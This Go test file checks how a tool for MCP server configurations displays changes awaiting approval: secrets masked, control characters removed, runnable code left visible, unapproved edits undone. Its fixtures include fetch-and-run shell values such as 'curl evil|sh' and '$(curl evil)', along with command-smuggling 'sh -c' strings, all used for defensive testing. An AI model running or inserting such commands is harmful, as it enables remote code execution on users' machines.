package changes_test

import (
	"fmt"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/workbench-mcp/workbench-desktop/engine/approval"
	"github.com/workbench-mcp/workbench-desktop/engine/config"
	"github.com/workbench-mcp/workbench-desktop/engine/jsonc"
	"github.com/workbench-mcp/workbench-desktop/engine/manage/entries/review"
	"github.com/workbench-mcp/workbench-desktop/engine/manage/file/changes"
	"github.com/workbench-mcp/workbench-desktop/engine/manage/file/edit"
)

func document(entry string) string { return `{"toolboxes":{"dev":{"mcpServers":{` + entry + `}}}}` }

func server(t *testing.T, source string) *config.Server {
	t.Helper()
	parsed := config.Parse("", []byte(source))
	if !parsed.Valid() {
		t.Fatal(parsed.Errors())
	}
	return parsed.Config.Toolboxes[0].Servers[0]
}

func TestDifference(t *testing.T) {
	long := strings.Repeat("x", 5000)
	w := approval.Waiting{
		Toolbox: "dev",
		Old:     server(t, document(`"s":{"command":"npx","args":["-y","a b"],"env":{"TOKEN":"one-two-three","HOME":"${HOME}"}}`)),
		Server: server(t, document(`"s":{"command":"npx","args":["-y","a\nb\u202e\u001b[2J","`+long+
			`"],"env":{"TOKEN":"four-five-six","HOME":"${HOME}"}}`)),
	}
	got := changes.Difference(w)
	for _, want := range []string{
		" command: \"npx\"\n", `-args[1]: "a b"`, `+args[1]: "a\nb\u202e\u001b[2J"`, `+args[2]: "` + long + `"`,
		"-env.TOKEN: \"••• #", "+env.TOKEN: \"••• #", ` env.HOME: "${HOME}"`,
	} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in\n%s", want, got)
		}
	}
	for _, secret := range []string{"one-two", "four-five", "\x1b", "\u202e"} {
		if strings.Contains(got, secret) {
			t.Errorf("%q is in\n%s", secret, got)
		}
	}
}

// TestDifferenceIsWhole: a change at the end is shown with all lines, also those far before it.
func TestDifferenceIsWhole(t *testing.T) {
	var same []string
	for i := range 40 {
		same = append(same, fmt.Sprintf(`"a%d"`, i))
	}
	args := `"s":{"command":"x","args":[` + strings.Join(same, ",")
	w := approval.Waiting{Toolbox: "dev", Old: server(t, document(args+`,"old"]}`)),
		Server: server(t, document(args+`,"new"]}`))}
	got := changes.Difference(w)
	for i, argument := range same {
		if want := fmt.Sprintf(" args[%d]: %s\n", i, argument); !strings.Contains(got, want) {
			t.Fatalf("%q is not in\n%s", want, got)
		}
	}
	if !strings.Contains(got, ` command: "x"`) || !strings.Contains(got, `+args[40]: "new"`) {
		t.Error(got)
	}
}

// TestDifferenceShowsCode checks that nothing that could run is masked as a secret.
func TestDifferenceShowsCode(t *testing.T) {
	for entry, want := range map[string]string{
		`"command":"sh","args":["-c","TOKEN=x;touch /tmp/ran; npx y"]`:                    `args[1]: "TOKEN=x;touch /tmp/ran; npx y"`,
		`"command":"sh","args":["-c","API_KEY='a;b' PASSWORD=\"$(curl evil|sh)\" npx x"]`: `args[1]: "API_KEY='a;b' PASSWORD=\"$(curl evil|sh)\" npx x"`,
		`"command":"TOKEN=x;evil"`:                                     `command: "TOKEN=x;evil"`,
		`"command":"x","env":{"PASSWORD_COMMAND":"curl evil|sh"}`:      `env.PASSWORD_COMMAND: "curl evil|sh"`,
		`"command":"x","env":{"PASSWORD":"$(curl evil)"}`:              `env.PASSWORD: "$(curl evil)"`,
		`"command":"x","env":{"GH_TOKEN_HELPER":"/tmp/evil"}`:          `env.GH_TOKEN_HELPER: "/tmp/evil"`,
		`"command":"x","env":{"PASSWORD":"correct horse"}`:             `env.PASSWORD: "••• #`,
		`"url":"https://a.example","oauth":{"clientSecret":"hunter2"}`: `oauth.clientSecret: "••• #`,
	} {
		if got := changes.Difference(approval.Waiting{Toolbox: "dev",
			Server: server(t, document(`"s":{`+entry+`}`))}); !strings.Contains(got, want) {
			t.Errorf("%s is not in\n%s", want, got)
		}
	}
}

var mark = regexp.MustCompile(`••• #[0-9a-f]{4}`)

// FuzzMasked checks that a difference masks exactly what the review of the same entry masks.
func FuzzMasked(f *testing.F) {
	f.Add("sh", "-c", "TOKEN=x;touch /tmp/ran", "PASSWORD_COMMAND", "curl evil|sh")
	f.Add("npx", "--api-key", "hunter2", "TOKEN", "hunter2")
	f.Add("docker", "-e", "API_KEY=a b", "Authorization", "Bearer abcdef")
	f.Add("env", "API_KEY=hunter2", "https://me:pw@host/?token=abc", "GIT_CONFIG_KEY_0", "sk-abcdefghijklmnopqrstuvwx")
	f.Fuzz(func(t *testing.T, command, first, second, name, value string) {
		for _, text := range []*string{&command, &first, &second, &name, &value} {
			*text = strings.Map(func(r rune) rune { // the characters that both write unchanged
				if r < ' ' || r > '~' || r == '"' || r == '\\' {
					return 'x'
				}
				return r
			}, *text)
			for strings.Contains(*text, "  ") {
				*text = strings.ReplaceAll(*text, "  ", " ")
			}
			*text = "x"[:max(0, 1-len(*text))] + *text
		}
		variables := []config.Variable{{Name: name, Value: value}}
		program := &config.Server{Transport: config.TransportStdio, Command: command, Args: []string{first, second},
			Env: variables}
		site := &config.Server{Transport: config.TransportHTTP, URL: second, Headers: variables,
			OAuth: &config.OAuth{ClientID: first, ClientSecret: value}}
		for _, server := range []*config.Server{program, site} {
			judged := review.Of(server)
			want := strings.ReplaceAll(judged.Line(), `"`, "")
			for _, s := range judged.Settings {
				want += "\n" + s.Field + "." + s.Name.String() + "=" + s.Value.String()
			}
			var runs, settings []string
			for line := range strings.Lines(changes.Difference(approval.Waiting{Toolbox: "dev", Server: server})) {
				field, text, ok := strings.Cut(strings.TrimPrefix(strings.TrimSuffix(line, "\n"), "+"), `: "`)
				if !ok || !strings.HasPrefix(line, "+") {
					continue
				}
				text = mark.ReplaceAllString(strings.TrimSuffix(text, `"`), "•••")
				switch {
				case field == "transport":
				case strings.HasPrefix(field, "env."), strings.HasPrefix(field, "headers."), strings.HasPrefix(field, "oauth."):
					settings = append(settings, "\n"+field+"="+text)
				default:
					runs = append(runs, text)
				}
			}
			if got := strings.Join(runs, " ") + strings.Join(settings, ""); got != want {
				t.Errorf("%+v\ngot  %s\nwant %s", server, got, want)
			}
		}
	})
}

// TestPutBack changes each field that needs approval, undoes the change, and checks that the other program's other
// changes are kept.
func TestPutBack(t *testing.T) {
	for _, c := range []struct{ name, before, after, want string }{
		{"command and args", `"s":{"command":"a","args":["b"]}`, `"s":{"description":"d","command":"evil"}`,
			`"s":{"description":"d","command":"a","args":["b"]}`},
		{"variables", `"s":{"command":"a","env":{"A":"1"}}`, `"s":{"command":"a","env":{"A":"2","B":"3"},"cwd":"/tmp"}`,
			`"s":{"command":"a","env":{"A":"1"}}`},
		{"kind", `"s":{"command":"a"}`, `"s":{"url":"https://a.example","headers":{"A":"B"}}`, `"s":{"command":"a"}`},
		{"other kind", `"s":{"url":"https://a.example","type":"sse","oauth":{"clientId":"c","callbackPort":80}}`,
			`"s":{"command":"evil","args":["x"]}`,
			`"s":{"url":"https://a.example","type":"sse","oauth":{"clientId":"c","callbackPort":80}}`},
		{"filters stay", `"s":{"command":"a"}`, `"s":{"command":"b","toolFilters":["x"],"disabled":true}`,
			`"s":{"command":"a","toolFilters":["x"],"disabled":true}`},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := approval.Waiting{Toolbox: "dev", Server: server(t, document(c.after)), Old: server(t, document(c.before))}
			result, err := edit.Apply([]byte(document(c.after)), changes.PutBack(w)...)
			if err != nil {
				t.Fatal(err)
			}
			if got := server(t, string(result)); !got.Equal(server(t, document(c.want))) {
				t.Errorf("got %s, want %s", result, c.want)
			}
		})
	}
}

func TestPutBackWhatWasAdded(t *testing.T) {
	source := document(`"s":{"command":"evil"},"t":{"command":"t"}`)
	w := approval.Waiting{Toolbox: "dev", Server: server(t, source)}
	result, err := edit.Apply([]byte(source), changes.PutBack(w)...)
	if err != nil || server(t, string(result)).Name != "t" {
		t.Errorf("%s %v", result, err)
	}
}

// TestAppsArePutBack: the apps that may see a toolbox are a field of the toolbox, so that is where the change
// is undone.
func TestAppsArePutBack(t *testing.T) {
	with := func(apps string) *config.Server {
		return server(t, `{"toolboxes":{"dev":{`+apps+`"mcpServers":{"s":{"command":"a"}}}}}`)
	}
	for _, tt := range []struct {
		old, now string
		want     edit.Op
	}{
		{`"apps":["zed","cursor"],`, ``,
			edit.SetField{Target: edit.Target{Toolbox: "dev"}, Field: []string{"apps"},
				Value: jsonc.Value([]string{"cursor", "zed"})}},
		{``, `"apps":["zed"],`, edit.ClearField{Target: edit.Target{Toolbox: "dev"}, Field: []string{"apps"}}},
	} {
		w := approval.Waiting{Toolbox: "dev", Old: with(tt.old), Server: with(tt.now)}
		if got := changes.PutBack(w); !reflect.DeepEqual(got, []edit.Op{tt.want}) {
			t.Errorf("%s to %s: %+v", tt.old, tt.now, got)
		}
	}
}
